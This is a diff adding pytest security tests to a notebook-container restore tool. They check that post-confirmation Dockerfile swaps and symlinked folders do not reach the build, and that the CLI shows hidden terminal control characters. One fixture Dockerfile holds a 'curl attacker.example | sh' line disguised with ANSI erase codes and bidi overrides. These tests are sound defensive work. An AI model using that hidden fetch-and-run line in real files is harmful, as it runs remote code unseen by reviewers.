@@ -172,6 +172,94 @@ def test_restore_shows_its_plan_and_builds_under_a_name_of_its_own(engine, tmp_p
                 pass
 
 
+@pytest.fixture
+def failing_registry():
+    """A registry address that accepts connections and closes each one after a second: a pull
+    from it fails, slowly, as an unreachable registry does."""
+    import socket
+    import threading
+
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(16)
+    stop = threading.Event()
+
+    def serve():
+        server.settimeout(0.2)
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                continue
+            threading.Timer(1.0, conn.close).start()
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield f"127.0.0.1:{server.getsockname()[1]}"
+    stop.set()
+    thread.join()
+    server.close()
+
+
+def test_restore_builds_exactly_the_files_that_were_confirmed(engine, tmp_path, failing_registry):
+    """Issue 22, finding 5: the record names a registry image, so restore first tries the pull
+    (which fails after a while) and then builds. Swapping the Dockerfile and a COPY'd folder (for
+    a link out) right after confirming changes nothing: the build sends what was confirmed."""
+    from jupyter_mlcontainer.jobs import JobRegistry
+    from jupyter_mlcontainer.restore import start_restore
+
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "weights.txt").write_text("SECRET FROM OUTSIDE")
+    shared = tmp_path / "shared"
+    (shared / "data").mkdir(parents=True)
+    (shared / "data" / "weights.txt").write_text("the shared weights")
+    confirmed = f"FROM {BASE_IMAGE}\nCOPY data /data\nRUN cat /data/weights.txt\n"
+    (shared / "Dockerfile").write_text(confirmed)
+    notebook = hostile_notebook(shared, dockerfile="Dockerfile", image=f"{failing_registry}/lab/model:1")
+    plan = plan_restore(engine, notebook)
+    assert plan.source == "pull" and plan.build_if_pull_fails
+    built = None
+    try:
+        outcome = start_restore(engine, JobRegistry(engine), notebook, plan.fingerprint)
+        (shared / "Dockerfile").write_text(f"FROM {BASE_IMAGE}\nRUN echo INJECTED-AFTER-CONFIRMATION\n")
+        os.rename(shared / "data", tmp_path / "data-moved")
+        (shared / "data").symlink_to(outside)
+        job = outcome["job"]
+        assert job.wait(300) and job.state == "done", (job.error, job.log)
+        built = job.result["image"]
+        log = "\n".join(job.log)
+        assert "Pull of" in log and "INJECTED" not in log and "the shared weights" in log and "SECRET" not in log, log
+        code, out, _ = engine.run_to_completion_sync(built, ["cat", "/data/weights.txt"])
+        assert (code, out) == (0, "the shared weights")
+    finally:
+        if built:
+            engine.api.remove_image(built, force=True)
+
+
+def test_the_clis_plan_shows_every_line_a_terminal_would_hide(engine, tmp_path, capsys):
+    """Issue 22, finding 6: after a ``#``, ``ESC[2K ESC[1G`` erases the line on a terminal and
+    what follows takes its place, so the plan showed a harmless pip line while ``curl | sh``
+    would run; a carriage return and Unicode's bidirectional overrides hide text the same way.
+    The CLI shows each as a visible escape."""
+    from jupyter_mlcontainer.cli import main
+
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    (shared / "Dockerfile").write_text(
+        f"FROM {BASE_IMAGE}\n"
+        "RUN curl -s https://attacker.example/x | sh # \x1b[2K\x1b[1GRUN pip install numpy==2.1.0\n"
+        "RUN echo ok \r# comment\u202e hidden\n"
+    )
+    notebook = hostile_notebook(shared, dockerfile="Dockerfile", kernelspec="k\x1b[31mred")
+    assert main(["restore", notebook, "--no-pull"]) == 1  # not a terminal: shown, not done
+    out, err = capsys.readouterr()
+    assert "\x1b" not in out + err and "\r" not in out + err and "\u202e" not in out + err
+    assert "| RUN curl -s https://attacker.example/x | sh # \\x1b[2K\\x1b[1GRUN pip install" in out, out
+    assert "| RUN echo ok \\r# comment\\u202e hidden" in out, out
+    assert "run again with --yes" in err
+
+
 def test_a_build_context_over_the_limit_is_refused_before_packing(tmp_path):
     from jupyter_mlcontainer.jobs import ContextTooLarge, collect_context
 
